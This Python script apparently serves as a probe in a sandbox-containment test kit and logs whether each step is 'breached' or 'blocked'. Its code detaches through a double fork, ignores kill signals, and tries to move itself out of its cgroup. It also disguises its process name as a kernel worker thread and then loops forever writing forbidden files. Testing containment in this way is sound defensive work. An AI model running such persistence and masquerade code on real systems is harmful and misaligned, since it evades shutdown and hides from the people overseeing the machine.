"""Double fork + setsid, then become something that looks like a kernel thread and never dies."""
import ctypes
import glob
import os
import signal
import sys
import time

import hostile_kit

if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
# The grandchild: no session leader, no controlling terminal, reparented away from start.sh.
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1, signal.SIGUSR2,
            signal.SIGPIPE):
    signal.signal(sig, signal.SIG_IGN)
hostile_kit.record("note", "daemon detached", f"pid {os.getpid()} sid {os.getsid(0)}")
for path in glob.glob("/sys/fs/cgroup/*/cgroup.procs") + glob.glob("/sys/fs/cgroup/cgroup.procs"):
    try:
        with open(path, "w") as handle:
            handle.write(str(os.getpid()))
        hostile_kit.record("breached", f"moved itself into {path}")
    except OSError as exc:
        hostile_kit.record("blocked", f"cgroup escape {path}", exc)
targets = hostile_kit.TARGETS
os.chdir("/")
os.umask(0)
devnull = os.open("/dev/null", os.O_RDWR)
for fd in (0, 1, 2):
    os.dup2(devnull, fd)
os.closerange(3, 1024)
try:
    ctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME
except OSError:
    pass
os.environ.clear()
while True:
    for path in targets["forbidden_new"]:
        try:
            with open(path, "x") as handle:
                handle.write("written by a daemon that outlived its task\n")
        except OSError:
            pass
    try:
        hostile_kit.redis_set("127.0.0.1")
    except Exception:  # noqa: BLE001
        pass
    time.sleep(1)
